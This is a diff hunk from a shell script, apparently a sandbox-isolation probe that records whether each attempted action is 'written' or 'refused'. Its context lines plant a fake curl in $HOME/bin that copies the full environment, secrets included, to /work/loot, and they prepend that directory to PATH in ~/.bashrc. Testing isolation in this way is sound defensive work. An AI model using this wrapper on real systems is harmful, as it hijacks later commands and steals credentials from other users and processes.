@@ -27,6 +27,7 @@ else
 fi
 
 # Steal the next step's tools: a curl that comes first in PATH, and a file that every shell reads.
+# shellcheck disable=SC2016  # the next shell is to expand it
 mkdir -p "$HOME/bin" 2>/dev/null && printf '#!/bin/sh\nenv >/work/loot\nexec /usr/bin/curl "$@"\n' >"$HOME/bin/curl" 2>/dev/null &&
 	chmod +x "$HOME/bin/curl" && echo 'PATH=$HOME/bin:$PATH' >>"$HOME/.bashrc"
 tried "a curl of its own, first in PATH" "$([ -x "$HOME/bin/curl" ] && echo written || echo refused)"
